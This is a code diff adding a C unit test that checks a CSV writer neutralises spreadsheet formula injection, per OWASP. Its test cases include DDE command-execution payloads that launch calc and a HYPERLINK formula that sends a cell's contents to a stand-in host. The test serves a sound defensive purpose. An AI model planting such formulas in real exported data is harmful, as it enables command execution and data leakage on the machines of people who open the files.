@@ -483,8 +483,40 @@ static void test_bidi_controls(void **st) {
   assert_false(ec_cp_unsafe('\t', 1) || ec_cp_unsafe('\n', 1) || ec_cp_unsafe(0xFFFD, 3) || ec_cp_unsafe(0x200F, 3));
 }
 
+/* CSV injection (OWASP): a field that starts with = + - @, a tab or a CR is
+ * quoted with a leading apostrophe unless it is one plain number as a whole
+ * (before: "-1+1+cmd|..." passed because '-' and a digit looked like a
+ * number, and a tab or CR first was never guarded). */
+static void test_csv_formulas(void **st) {
+  (void)st;
+  static const char *const cases[][2] = {
+      {"-1+1+cmd|' /C calc'!A0", "\"'-1+1+cmd|' /C calc'!A0\""},
+      {"=HYPERLINK(\"http://x.test/?\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"Click\"\")\""},
+      {"@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""},
+      {"\t=1", "\"'\t=1\""},
+      {"\r=1", "\"'\xEF\xBF\xBD=1\""}, /* a CR shows as U+FFFD, as everywhere */
+      {"+1", "\"'+1\""},
+      {"-", "\"'-\""},
+      {"-3.5", "-3.5"},
+      {"-3", "-3"},
+      {"-.5e-3", "-.5e-3"},
+      {"-3.5x", "\"'-3.5x\""},
+      {"-1e", "\"'-1e\""},
+      {"conv1", "conv1"},
+      {"a=1", "a=1"},
+  };
+  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+    ec_buf b = {0};
+    ec_buf_csv(&b, cases[i][0], strlen(cases[i][0]));
+    ec_buf_putc(&b, '\0');
+    assert_string_equal(b.data, cases[i][1]);
+    ec_buf_free(&b);
+  }
+}
+
 int main(void) {
   const struct CMUnitTest tests[] = {
+      cmocka_unit_test(test_csv_formulas),
       cmocka_unit_test(test_heading_slug), cmocka_unit_test(test_heading_ids), cmocka_unit_test(test_ident_break_rule),
       cmocka_unit_test(test_ident_html), cmocka_unit_test(test_toc), cmocka_unit_test(test_graph_wrap),
       cmocka_unit_test(test_graph_legend), cmocka_unit_test(test_graph_block), cmocka_unit_test(test_generated_provenance), cmocka_unit_test(test_bidi_controls),
